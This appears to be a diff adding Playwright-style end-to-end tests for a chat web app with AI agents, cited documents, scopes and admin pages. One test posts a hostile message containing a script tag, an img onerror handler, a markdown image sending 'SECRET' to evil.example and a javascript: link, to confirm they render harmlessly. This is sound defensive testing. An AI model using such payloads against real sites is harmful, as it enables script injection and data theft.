@@ -1,0 +1,325 @@
+// End-to-end tests of the web UI in headless Chromium against the real
+// server: login, live delivery between two people, threads, reactions,
+// resume after the server drops the socket, agents' cited messages, scopes
+// with live preview, role-gated admin pages, digests with evidence links,
+// and harmless rendering of hostile messages. Screenshots of the main views
+// go to tests/artifacts/e2e/.
+
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { startServer, launchBrowser, newPage, uiLogin, shot, PASSWORD } from './harness.js';
+
+let server;
+let browser;
+let admin; // admin's token
+const users = {}; // handle -> {id, token}
+let war; // #war-room
+let agent; // {id, handle, token}
+let chunkId;
+
+const DOC = `---
+title: Sales pipeline Q3
+department: sales
+label: internal
+tags: [pipeline, forecast]
+---
+# Pipeline
+
+The V4 sensor deals in the northern region slipped by two weeks because the supplier
+changed the housing. Three customers asked for a revised delivery date.
+
+# Forecast
+
+We still expect to close 14 deals this quarter if the supplier delivers by October.
+`;
+
+before(async () => {
+  server = await startServer();
+  admin = await server.login('admin');
+  for (const [handle, role, name, dept] of [['lena', 'leader', 'Lena Leader', 'executive'], ['sam', 'member', 'Sam Seller', 'sales'], ['erin', 'member', 'Erin Engineer', 'engineering']]) {
+    const u = await server.ok(admin, 'POST', '/users', { handle, role, display_name: name, department: dept, password: PASSWORD, clearance: 'confidential' });
+    users[handle] = { id: u.id, token: await server.login(handle) };
+  }
+  war = await server.ok(admin, 'POST', '/channels', { name: 'war-room', visibility: 'public', topic: 'Cross-department risks and opportunities' });
+  await server.ok(admin, 'POST', '/channels', { name: 'sales', visibility: 'public', topic: 'Pipeline and deals' });
+  for (const h of ['lena', 'sam', 'erin']) await server.ok(users[h].token, 'POST', `/channels/${war.id}/join`);
+  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: 'Morning all: the **V4** supplier update is in the sales channel.' });
+  await server.ok(users.erin.token, 'POST', `/channels/${war.id}/messages`, { body: 'Thanks @sam, engineering will check the housing change today.' });
+  // A document, a scope and an agent that cites it.
+  const doc = await server.ok(admin, 'POST', '/documents?path=sales/pipeline-q3.md', undefined, { raw: DOC });
+  const docId = doc.document?.id || doc.id || doc.document_id;
+  const detail = await server.ok(admin, 'GET', `/documents/${docId}`);
+  chunkId = detail.chunks[0].id;
+  await server.ok(admin, 'POST', '/scopes', { name: 'dept-sales', departments: ['sales'], max_label: 'internal' });
+  const spawned = await server.ok(admin, 'POST', '/agents', { template: 'sales-analyst', count: 1, scope: 'dept-sales', brain: 'extractive', channels: ['war-room'] });
+  const a = spawned.agents[0];
+  const tok = await server.ok(admin, 'POST', `/agents/${a.id}/token`);
+  agent = { id: a.id, handle: a.handle, token: tok.access_token };
+  await server.ok(agent.token, 'POST', `/channels/${war.id}/messages`, {
+    body: 'Risk: the V4 deals in the north slipped two weeks after the supplier changed the housing; three customers want new dates.',
+    citations: [chunkId], brain: 'extractive',
+  });
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  if (browser) await browser.close();
+  if (server) await server.stop();
+});
+
+async function openWarRoom(page, handle) {
+  await uiLogin(page, server.url, handle);
+  await page.goto(`${server.url}/#/c/${war.id}`);
+  await page.waitForSelector('.messages .msg');
+}
+
+function msg(page, text) {
+  return page.locator('.messages .msg', { hasText: text });
+}
+
+test('a person logs in and sees channels, unread counts and the strict CSP', async () => {
+  const page = await newPage(browser);
+  const resp = await page.goto(server.url);
+  const csp = resp.headers()['content-security-policy'];
+  assert.match(csp, /script-src 'self'/);
+  assert.match(csp, /img-src 'self'/);
+  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
+  await page.fill('#login-handle', 'sam');
+  await page.fill('#login-password', 'wrong password');
+  await page.click('button[type=submit]');
+  await page.waitForSelector('.form-error:not([hidden])');
+  await shot(page, '00-login');
+  await page.fill('#login-password', PASSWORD);
+  await page.click('button[type=submit]');
+  await page.waitForSelector('.sidebar .channel-item[data-channel="war-room"]');
+  await page.waitForSelector('.messages .msg');
+  assert.equal(await page.locator('.admin-nav').count(), 0, 'members see no admin navigation');
+  // sam is not in #sales: it is offered in Browse, not the sidebar.
+  assert.equal(await page.locator('.sidebar .channel-item[data-channel="sales"]').count(), 0);
+  await page.context().close();
+});
+
+test('a message posted in one browser appears live in another, with typing shown', async () => {
+  const a = await newPage(browser);
+  const b = await newPage(browser);
+  await openWarRoom(a, 'sam');
+  await openWarRoom(b, 'erin');
+  const text = `Live hello ${Date.now()}`;
+  await a.fill('.composer-input', text);
+  await b.waitForSelector('.typing:has-text("sam is typing")', { timeout: 5000 });
+  await a.press('.composer-input', 'Enter');
+  await msg(b, text).waitFor({ timeout: 5000 });
+  assert.equal(await msg(a, text).count(), 1, 'the sender sees it once');
+  assert.equal(await msg(b, text).count(), 1, 'the other person sees it once');
+  await shot(b, '01-channel');
+  await a.context().close();
+  await b.context().close();
+});
+
+test('a thread reply shows in the thread pane and as a reply count for others', async () => {
+  const a = await newPage(browser);
+  const b = await newPage(browser);
+  await openWarRoom(a, 'erin');
+  await openWarRoom(b, 'lena');
+  const root = msg(a, 'Morning all');
+  await root.hover();
+  await root.locator('button[aria-label="Reply in thread"]').click();
+  await a.waitForSelector('.pane .msg');
+  await a.fill('.pane .composer-input', 'Engineering confirms: new housing passes the drop test.');
+  await a.press('.pane .composer-input', 'Enter');
+  await a.waitForSelector('.pane .msg:has-text("passes the drop test")');
+  await msg(b, 'Morning all').locator('.replies:has-text("1 reply")').waitFor({ timeout: 5000 });
+  await msg(b, 'Morning all').locator('.replies').click();
+  await b.waitForSelector('.pane .msg:has-text("passes the drop test")');
+  await shot(b, '02-thread');
+  await a.context().close();
+  await b.context().close();
+});
+
+test('a reaction is shown to everyone and can be taken back', async () => {
+  const a = await newPage(browser);
+  const b = await newPage(browser);
+  await openWarRoom(a, 'sam');
+  await openWarRoom(b, 'erin');
+  const target = msg(a, 'engineering will check');
+  await target.hover();
+  await target.locator('button[aria-label="Add reaction"]').click();
+  await a.click('.emoji-picker button:has-text("👍")');
+  await msg(b, 'engineering will check').locator('.reaction:has-text("👍") .reaction-count:text("1")').waitFor({ timeout: 5000 });
+  await msg(a, 'engineering will check').locator('.reaction.mine').click();
+  await b.waitForFunction(() => ![...document.querySelectorAll('.messages .msg')].some((m) => m.textContent.includes('engineering will check') && m.querySelector('.reaction')), null, { timeout: 5000 });
+  await a.context().close();
+  await b.context().close();
+});
+
+test('one can edit and delete one\'s own message', async () => {
+  const a = await newPage(browser);
+  await openWarRoom(a, 'sam');
+  const text = `Typo mesage ${Date.now()}`;
+  await a.fill('.composer-input', text);
+  await a.press('.composer-input', 'Enter');
+  await msg(a, text).waitFor();
+  await a.press('.composer-input', 'ArrowUp');
+  await a.fill('.edit-box', `${text} (fixed)`);
+  await a.press('.edit-box', 'Enter');
+  await msg(a, `${text} (fixed)`).locator('.msg-edited').waitFor({ timeout: 5000 });
+  await msg(a, `${text} (fixed)`).hover();
+  await msg(a, `${text} (fixed)`).locator('button[aria-label="Delete message"]').click();
+  await a.click('dialog .btn-danger');
+  await a.waitForFunction((t) => ![...document.querySelectorAll('.msg-body')].some((b) => b.textContent.includes(t)), text, { timeout: 5000 });
+  await a.context().close();
+});
+
+test('after the server drops the socket the client resumes with no gap and no duplicates', async () => {
+  const b = await newPage(browser);
+  await openWarRoom(b, 'erin');
+  const before = Number(await b.evaluate(() => document.documentElement.dataset.connects));
+  // An admin changing erin's clearance makes the server close her sockets (4003);
+  // the messages below are posted while she is disconnected.
+  await server.ok(admin, 'PATCH', `/users/${users.erin.id}`, { clearance: 'confidential' });
+  const tag = `gap-${Date.now()}`;
+  for (let i = 1; i <= 5; i += 1) {
+    await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: `${tag} message ${i}` });
+  }
+  await b.waitForFunction((n) => Number(document.documentElement.dataset.connects) > n, before, { timeout: 15000 });
+  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: `${tag} message 6` });
+  await msg(b, `${tag} message 6`).waitFor({ timeout: 5000 });
+  const seen = await b.$$eval('.messages .msg-body', (els, t) => els.map((e) => e.textContent).filter((x) => x.includes(t)), tag);
+  assert.deepEqual(seen, [1, 2, 3, 4, 5, 6].map((i) => `${tag} message ${i}`));
+  await b.context().close();
+});
+
+test('an agent\'s message shows persona, department and its citation with document and label', async () => {
+  const page = await newPage(browser);
+  await openWarRoom(page, 'lena');
+  const m = msg(page, 'slipped two weeks');
+  await m.locator('.agent-badge').waitFor();
+  assert.equal(await m.locator('.chip.dept').innerText(), 'sales');
+  await m.locator('.citations-toggle').click();
+  const card = m.locator(`.citation[data-chunk="${chunkId}"]`);
+  await card.waitFor({ timeout: 5000 });
+  assert.match(await card.innerText(), /sales\/pipeline-q3\.md/);
+  assert.equal(await card.locator('.chip.label-internal').count(), 1);
+  assert.match(await card.locator('.chunk-text').innerText(), /supplier/);
+  await shot(page, '03-agent-citation');
+  await page.context().close();
+});
+
+test('a message with <script>, an external image and a javascript: link renders harmless', async () => {
+  const page = await newPage(browser);
+  await openWarRoom(page, 'erin');
+  const hostile = 'Hostile <script>window.__pwned = 1</script> <img src="https://evil.example/x.png" onerror="window.__pwned = 2"> '
+    + '![x](https://evil.example/?d=SECRET) [click](javascript:window.__pwned=3) <a href="#" onclick="window.__pwned=4">a</a>';
+  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: hostile });
+  const m = msg(page, 'Hostile');
+  await m.waitFor({ timeout: 5000 });
+  await m.locator('a').first().click().catch(() => {});
+  await page.waitForTimeout(300);
+  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script ran');
+  assert.equal(await m.locator('.msg-body script, .msg-body img, .msg-body [onerror], .msg-body [onclick]').count(), 0);
+  assert.equal(await m.locator('.msg-body a[href^="javascript"]').count(), 0);
+  assert.deepEqual(page.requests.filter((u) => !u.startsWith(server.url)), [], 'no request left the server');
+  await page.context().close();
+});
+
+test('an admin creates a scope and sees its live preview', async () => {
+  const page = await newPage(browser);
+  await uiLogin(page, server.url, 'admin', PASSWORD, '#/admin/scopes');
+  await page.waitForSelector('.scope-form');
+  await page.fill('#scope-name', 'sales-forecast');
+  await page.click('.chip-picker .pick[data-value="sales"]');
+  await page.waitForFunction(() => document.querySelector('#preview-docs')?.textContent === '1', null, { timeout: 15000 });
+  await page.waitForSelector('.preview .sample .chip.label-internal');
+  await shot(page, '04-scopes');
+  await page.click('#scope-save');
+  await page.waitForSelector('.scope-item.active:has-text("sales-forecast")');
+  const stored = await server.ok(admin, 'GET', '/scopes/sales-forecast');
+  assert.deepEqual(stored.departments, ['sales']);
+  await page.goto(`${server.url}/#/admin/agents`);
+  await page.waitForSelector(`tr[data-agent="${agent.handle}"]`);
+  await shot(page, '05-admin-agents');
+  await page.goto(`${server.url}/#/admin/dashboard`);
+  await page.waitForSelector('.stats .stat-value');
+  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: 'Dashboard tick' });
+  await page.waitForSelector('.feed li a', { timeout: 5000 });
+  await shot(page, '06-dashboard');
+  await page.goto(`${server.url}/#/admin/documents`);
+  await page.waitForSelector('.table td:has-text("sales/pipeline-q3.md")');
+  await page.goto(`${server.url}/#/admin/users`);
+  await page.waitForSelector('tr[data-user="sam"]');
+  await page.context().close();
+});
+
+test('a member cannot open admin pages, and the server refuses the data', async () => {
+  const page = await newPage(browser);
+  await uiLogin(page, server.url, 'sam');
+  for (const p of ['#/admin/scopes', '#/admin/agents', '#/admin/users', '#/digests']) {
+    await page.goto(`${server.url}/${p}`);
+    await page.waitForSelector('.empty h3:has-text("You do not have access")');
+  }
+  assert.equal(await page.locator('.admin-nav').count(), 0);
+  for (const p of ['/scopes', '/users', '/agents', '/audit', '/documents']) {
+    const r = await server.api(users.sam.token, 'GET', p);
+    assert.equal(r.status, 403, `GET ${p} as a member`);
+  }
+  await page.context().close();
+});
+
+test('a leader opens a digest and follows an evidence link to its message', async (t) => {
+  const lena = users.lena.token;
+  const list = await server.api(lena, 'GET', '/insights/digests');
+  if (list.status === 404) {
+    t.skip('the insights API (issue 5) is not on this server yet');
+    return;
+  }
+  assert.equal(list.status, 200);
+  let digests = list.json.digests || [];
+  if (!digests.length) {
+    const run = await server.api(lena, 'POST', '/insights/run', {});
+    assert.ok(run.status < 300, `run: ${run.status} ${JSON.stringify(run.json)}`);
+    for (let i = 0; i < 60 && !digests.length; i += 1) {
+      await new Promise((r) => setTimeout(r, 1000));
+      digests = (await server.ok(lena, 'GET', '/insights/digests')).digests || [];
+    }
+  }
+  assert.ok(digests.length, 'a digest exists after a run');
+  const d = await server.ok(lena, 'GET', `/insights/digests/${digests[0].id}`);
+  const withEvidence = (d.insights || []).find((i) => (i.evidence || []).length);
+  const page = await newPage(browser);
+  await uiLogin(page, server.url, 'lena', PASSWORD, `#/digests/${d.id}`);
+  await page.waitForSelector('.digest');
+  await shot(page, '07-digest');
+  if (!withEvidence) {
+    await page.context().close();
+    t.skip('the digest of the seeded conversation has no insight with evidence');
+    return;
+  }
+  const ev = withEvidence.evidence[0];
+  const card = page.locator(`.insight[data-rank="${withEvidence.rank}"]`).first();
+  await card.locator('.citations-toggle').click();
+  await card.locator(`.evidence[data-message="${ev.message_id}"] a.evidence-link`).click();
+  await page.waitForSelector(`.msg.highlight[data-id="${ev.message_id}"]`, { timeout: 10000 });
+  assert.match(page.url(), new RegExp(`#/c/[\\w-]+/m/${ev.message_id}$`));
+  await page.context().close();
+});
+
+test('the digest page degrades to an empty state without the insights API', async () => {
+  const page = await newPage(browser);
+  await uiLogin(page, server.url, 'lena', PASSWORD, '#/digests');
+  await page.waitForSelector('.page-body .lead');
+  await page.context().close();
+});
+
+test('search finds a message and jumps to it; phone width keeps the app usable', async () => {
+  const page = await newPage(browser, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+  await uiLogin(page, server.url, 'erin');
+  await page.goto(`${server.url}/#/search?q=housing`);
+  await page.waitForSelector('.result');
+  await page.click('.result >> nth=0');
+  await page.waitForSelector('.msg.highlight');
+  await shot(page, '08-phone-channel');
+  await page.click('.menu-btn');
+  await page.waitForSelector('.nav-open .sidebar');
+  await shot(page, '09-phone-nav');
+  await page.context().close();
+});
